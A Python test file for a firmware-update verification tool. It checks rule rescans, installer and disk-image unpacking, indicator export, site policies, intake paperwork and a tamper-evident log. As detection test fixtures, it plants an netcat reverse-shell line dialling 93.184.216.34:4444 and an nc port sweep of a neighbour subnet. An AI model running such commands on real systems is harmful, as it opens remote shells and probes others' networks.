"""Rows 37 to 45 of docs/requirements.md, each through the product's own entry points."""

from __future__ import annotations

import hashlib
import sqlite3
from importlib import resources
from pathlib import Path

import pytest

from fwverify.case import parse_case
from fwverify.policy.decide import decide
from fwverify.policy.load import load_class
from tests.builders.facts import good_facts
from tests.cli.program import inside
from tests.requirements import desk as desks
from tests.requirements.desk import AT, NEXT, PLAIN, Desk, reason, rules
from tests.unpack_filesystems.helpers import needs, run
from tests.unpack_installers.builders import product
from tests.unpack_installers.pe_builder import program

NEW_RULE = """
rule found_later {
  meta:
    capability = "tunnel.reverse"
    severity = "critical"
    confidence = "high"
    threat = "both"
    description = "found later"
  strings: $a = "quietly dial home"
  condition: $a
}
"""
MARK = b"#!/bin/sh\necho quietly dial home\n"


@pytest.fixture(scope="module")
def desk(tmp_path_factory) -> Desk:
    made = desks.make(tmp_path_factory.mktemp("desk"))
    made.approve(made.update(PLAIN), made.case())
    made.write("later/later.yar", NEW_RULE)
    return made


def test_row_37_a_new_rule_revokes_what_was_approved_before_it(tmp_path):
    """Rules of today run over two stored baselines: the one they hit is revoked, with its
    device named; the other one, and a run without the new rule, change nothing."""
    desk = desks.make(tmp_path)
    case = desk.case()
    told = desk.update({**PLAIN, "usr/share/note.txt": MARK})
    desk.approve(told, case, "acme/told")
    desk.approve(desk.update(PLAIN), case, "acme/quiet")
    image = hashlib.sha256(told.read_bytes()).hexdigest()
    listed = "device,vendor,product,site,image_sha256,version,seen_at\n"
    listed += f"gate-7,acme,unit,Rotterdam,{image},1.0,2026-11-20T00:00:00Z\n"
    desk.write("devices.csv", listed)
    assert desk.run("devices", "import", "devices.csv", "--by", "Cy", "--at", AT).code == 0
    desk.write("later/later.yar", NEW_RULE)
    rescan = ("baseline", "rescan", "--by", "Cy", "--at", AT)
    assert desk.run(*rescan).code == 0
    ran = desk.run(*rescan, "--rules", "later")
    assert ran.code == 4
    assert "acme/quiet: nothing new is denied" in ran.out
    assert "acme/told: DENIED" in ran.out
    assert "revoked by Cy" in ran.out
    assert "gate-7" in ran.out
    assert desk.run("baseline", "show", "acme/told", "--json").json["state"] == "revoked"
    assert desk.run("baseline", "show", "acme/quiet", "--json").json["state"] == "approved"


def looked_into(folder: Path, name: str, data: bytes) -> set[str]:
    """Return the paths below ``name`` at which the rule found the mark."""
    (folder / "later").mkdir(exist_ok=True)
    (folder / "later" / "later.yar").write_text(NEW_RULE)
    (folder / name).write_bytes(data)
    ran = inside("scan", name, "--rules", "later", "--format", "json", cwd=folder)
    return {
        each["path"] for each in ran.json["findings"]
        if each["rule"] == "found_later" and "!/" in each["path"]
    }  # fmt: skip


@pytest.mark.parametrize(
    ("name", "made"),
    [
        ("suite.msi", lambda body: product([("Go", 37, "", body.decode())]).build()),
        ("setup.exe", lambda body: program([(10, 1, 0, body)])),
    ],
    ids=["MSI", "EXE"],
)
def test_row_38_installers_and_programs_are_looked_into(name, made, tmp_path):
    """A mark inside a Windows installer's script and inside a program's resource is found
    under the path of the inner file; the same without the mark is silent."""
    assert looked_into(tmp_path, name, made(MARK))
    assert not looked_into(tmp_path, name, made(MARK.replace(b"dial", b"stay")))


@needs("qemu-img", "qemu-utils")
@needs("genisoimage", "genisoimage")
def test_row_38_an_image_of_a_server_is_opened_down_to_its_files(tmp_path):
    """A mark in a file of a CD image that lies on a compressed disk of a virtual machine
    is found under the file's own path; the same without the mark is silent."""
    for body in (MARK, MARK.replace(b"dial", b"stay")):
        tree = tmp_path / hashlib.sha256(body).hexdigest()[:6]
        (tree / "opt").mkdir(parents=True)
        (tree / "opt" / "start.sh").write_bytes(body)
        iso, disk = tree / "x.iso", tree / "x.qcow2"
        run("genisoimage", "-quiet", "-R", "-o", iso, tree / "opt")
        run("qemu-img", "convert", "-c", "-f", "raw", "-O", "qcow2", iso, disk)
        found = looked_into(tmp_path, "server.qcow2", disk.read_bytes())
        assert any(each.endswith("/start.sh") for each in found) == (body is MARK)


def test_row_39_indicators_of_findings_are_exported_for_detection(desk):
    """The place that a new shell dials becomes a Suricata rule and a STIX pattern; the
    update without it gives neither."""
    bad = {**NEXT, "etc/init.d/S60x": b"#!/bin/sh\nnc 93.184.216.34 4444 -e /bin/sh\n"}
    case = desk.case()
    for files, expected in ((bad, True), (NEXT, False)):
        ran = desk.check(desk.update(files), case, "--out", "out39")
        assert ran.code == (4 if expected else 0)
        rules_ = desk.run("export", "iocs", "out39/report.json").out
        stix = desk.run("export", "iocs", "out39/report.json", "--format", "stix").out
        assert ("93.184.216.34" in rules_) == expected
        assert ("ipv4-addr:value = '93.184.216.34'" in stix) == expected


def test_row_40_site_profiles_differ_over_one_floor_that_none_lowers(tmp_path):
    """`policy diff` calls the airport stricter than the port; `policy lint` passes a
    site profile that asks for more, and refuses one that allows an ability and a policy
    that raises a bound above the floor's."""

    def run_(*call):
        return inside("policy", *call, cwd=tmp_path)

    ran = run_("diff", "scanner-port-stand-alone", "scanner-airport-stand-alone",
               "--format", "json")  # fmt: skip
    assert (ran.code, ran.json["stricter"]) == (3, "right")
    head = 'schema = "fwverify.tightening/1"\nname = "quay"\nversion = "1"\ntext = "t"\n'
    (tmp_path / "quay.toml").write_text(head + "unexplained_max_bytes = 1000\n")
    assert run_("lint", "quay.toml").code == 0
    allows = '[[capabilities]]\nid = "remote.shell.ssh"\nstance = "allowed"\nreason = "r"\n'
    (tmp_path / "quay.toml").write_text(head + allows)
    ran = run_("lint", "quay.toml")
    assert (ran.code, "a tightening cannot allow a capability" in ran.out) == (4, True)
    folder = resources.files("fwverify.policy") / "builtin"
    port = (folder / "scanner-airport-networked.toml").read_text()
    (tmp_path / "mine.toml").write_text(port.replace("= 65536", "= 999999"))
    ran = run_("lint", "mine.toml")
    assert (ran.code, "999999 lowers the floor" in ran.out) == (4, True)


HANDED = """
hardware_id = "S-7"
version = "2"
update_kind = "{kind}"
declared_changes = ["etc/*"]
ticket = "T-1"
[[custody]]
at = "2026-11-20T08:00:00Z"
person = "A. Carrier"
act = "received"
[permit]
number = "P-7"
issuer = "Port"
valid_from = "2026-01-01"
valid_until = "2026-12-31"
[[clearances]]
kind = "VOG"
person = "M. Onteur"
reference = "VOG-1"
valid_until = "2027-01-01"
"""
CLEARED = (
    '[[clearances]]\nkind = "VGB"\nperson = "M. Onteur"\nreference = "G"\nvalid_until = "{}"\n'
)
SIGNED = '[countersign]\nperson = "{}"\noperator = "Customs"\nat = "{}"\n'
RIGHT = SIGNED.format("O. Perator", "2026-11-21T11:00:00Z")
HALL = 'site = "Hall 3"\nsite_class = "high"\noperator = "Customs"\nconnectivity = "networked"\n'


def admitted(more: str, place: str = "airport", kind: str = "planned", without: str = ""):
    """Return the intake's reasons for a case file at an airport or port."""
    device = f"scanner-{place}-networked"
    text = ('schema = "fwverify.case/1"\nvendor = "acme"\nproduct = "unit"\nsubmitter = "Desk"\n'
            f'class = "{device}"\n' + HANDED.format(kind=kind).replace(without or "\0", "")
            + more + f"[context]\n{HALL}")  # fmt: skip
    case = parse_case(text.encode(), "case.toml")
    made = decide(good_facts(case=case), load_class(device).policy)
    return {each.rule: str(each.verdict) for each in made.reasons
            if each.rule.startswith("intake.")}  # fmt: skip


def test_row_41_an_airport_refuses_a_mechanic_without_its_clearance(desk):
    """The airport's intake is refused without a VGB and with one that ran out; a port takes
    the VOG, and the airport the VGB. The refusal stands in the report of the whole run."""
    vgb = CLEARED.format("2027-01-01")
    refused = {"intake.clearance.vgb": "INCOMPLETE", "intake.refused": "DENY"}
    assert admitted(RIGHT) == refused
    assert admitted(CLEARED.format("2026-11-20") + RIGHT) == refused
    assert admitted(vgb + RIGHT) == {}
    assert admitted(RIGHT, "port") == {}
    for more, expected in ((RIGHT, True), (vgb + RIGHT, False)):
        text = HANDED.format(kind="planned") + more
        case = desk.case("intake.toml", text, HALL, class_name="scanner-airport-networked")
        found = rules(desk.check(desk.update(PLAIN), case, ref=None))
        assert ("intake.clearance.vgb" in found) == ("intake.refused" in found) == expected


def test_row_42_without_the_operators_countersign_the_update_is_not_admitted():
    """No countersign, the submitter's own, another operator's or one of tomorrow, and a
    custody without a receipt: INCOMPLETE and DENY. One by the operator's person is enough."""
    refused = {"intake.countersign": "INCOMPLETE", "intake.refused": "DENY"}
    assert admitted("", "port") == refused
    for wrong in (
        SIGNED.format("desk", "2026-11-21T11:00:00Z"),
        RIGHT.replace("Customs", "Somebody Else"),
        SIGNED.format("O. Perator", "2026-11-22T11:00:00Z"),
    ):
        assert admitted(wrong, "port") == refused, wrong
    receipt = 'act = "received"\n'
    assert receipt in HANDED
    late = '[[custody]]\nat = "2026-11-20T08:00:00Z"\nperson = "A. Carrier"\n'
    gap = admitted(RIGHT, "port", without=late + receipt)
    assert gap == {"intake.custody": "INCOMPLETE", "intake.refused": "DENY"}
    assert admitted(RIGHT, "port") == {}


def test_row_43_planned_and_corrective_updates_have_gates_of_their_own():
    """A planned update must say what changed, a corrective one which incident it answers;
    each passes without what only the other is asked for."""
    changes, ticket = 'declared_changes = ["etc/*"]\n', 'ticket = "T-1"\n'
    said = {
        (kind, left_out): set(admitted(RIGHT, "port", kind, left_out))
        for kind in ("planned", "corrective")
        for left_out in (changes, ticket)
    }
    assert said == {
        ("planned", changes): {"intake.declared_changes", "intake.refused"},
        ("planned", ticket): set(),
        ("corrective", changes): set(),
        ("corrective", ticket): {"intake.ticket", "intake.refused"},
    }


ROOM = """schema = "fwverify.tightening/1"
name = "hall"
version = "1"
text = "servers of three vendors in one room"
[[neighbours]]
vendor = "boris"
networks = ["10.20.0.0/16"]
hosts = ["boris.lan"]
[[neighbours]]
vendor = "acme"
networks = ["10.10.0.0/16"]
"""
SWEEP = b"#!/bin/sh\nfor i in $(seq 1 254); do\n  nc -z -w1 10.20.4.$i 22\ndone\n"


def test_row_44_equipment_that_addresses_another_vendors_network_is_told(desk):
    """At a site whose profile names the neighbours, a sweep of another vendor's network is
    denied with place and vendor named; its own network is not, and without the profile
    nothing is said."""
    desk.write("policies/sites/hall.toml", ROOM)
    room = desk.case("room.toml", context='profile = "hall"\n')
    sweep = desk.update({**PLAIN, "etc/app.conf": SWEEP})
    told = reason(desk.check(sweep, room, ref=None), "neighbour.addressed")
    assert told["verdict"] == "DENY"
    assert "10.20.4.0/24 of boris in unit.tar!/etc/app.conf" in told["text"]
    own = desk.update({**PLAIN, "etc/app.conf": SWEEP.replace(b"10.20", b"10.10")})
    for update, case in ((own, room), (sweep, desk.case("plain.toml"))):
        found = rules(desk.check(update, case, ref=None))
        assert not {each for each in found if each.startswith("neighbour.")}


def test_row_44_a_place_inside_that_is_nobodys_is_never_silent(desk):
    """With a table of neighbours, an address inside that no row holds, and a vendor in the
    room without a row, are for a person."""
    desk.write("policies/sites/hall.toml", ROOM)
    context = 'profile = "hall"\ncolocated = ["boris", "carol"]\n'
    case = desk.case("carol.toml", context=context)
    update = desk.update({**PLAIN, "etc/app.conf": b"[store]\nserver = 10.40.1.9\n"})
    ran = desk.check(update, case, ref=None)
    place, row = reason(ran, "neighbour.unknown_place"), reason(ran, "neighbour.no_row")
    assert (place["verdict"], row["verdict"]) == ("REVIEW", "REVIEW")
    assert "10.40.1.9 in" in place["text"]
    assert "carol" in row["text"]
    assert "boris" not in row["text"]


def altered(file: Path, statement: str, *, guarded: bool) -> None:
    """Run ``statement``; not ``guarded``: as somebody who takes the triggers off for it."""
    database = sqlite3.connect(file)
    try:
        query = "SELECT name, sql FROM sqlite_master WHERE type = 'trigger'"
        triggers = () if guarded else database.execute(query).fetchall()
        for name, _ in triggers:
            database.execute(f"DROP TRIGGER {name}")
        database.execute(statement)
        for _, text in triggers:
            database.execute(text)
        database.commit()
    finally:
        database.close()


def test_row_45_the_log_of_runs_is_chained_and_names_the_policy(tmp_path):
    """A run's entry holds the digest of the policy it was judged by; an entry that is
    altered or removed is refused by every command, and a log cut off by its kept head."""
    desk = desks.make(tmp_path)
    case, update = desk.case(), desk.update(PLAIN)
    desk.approve(update, case)
    policy = desk.check(update, case).json["digests"]["policy"]
    whole = desk.run("ledger", "check")
    assert whole.code == 0
    head = whole.out.split()[-1]
    file = tmp_path / "ledger.sqlite"
    with sqlite3.connect(file) as database:
        bodies = [row[0] for row in database.execute("SELECT body FROM run_log ORDER BY entry")]
    assert policy in bodies[-1]
    assert desk.run("ledger", "check", "--head", head).code == 0
    good = file.read_bytes()
    last = "(SELECT max(entry) FROM run_log)"
    for statement in (
        f"UPDATE run_log SET body = replace(body, 'ALLOW', 'DENY') WHERE entry = {last}",
        "DELETE FROM run_log WHERE entry = 2",
        f"DELETE FROM run_log WHERE entry = {last}",
    ):
        file.write_bytes(good)
        with pytest.raises(sqlite3.IntegrityError, match="append-only"):
            altered(file, statement, guarded=True)
        altered(file, statement, guarded=False)
        for call in (("ledger", "check"), ("history",)):
            ran = desk.run(*call)
            assert ran.code == 2, (statement, call, ran)
            assert "run log" in ran.err
    file.write_bytes(good)
    assert desk.run("ledger", "check", "--head", "0" * 63 + "1").code == 2
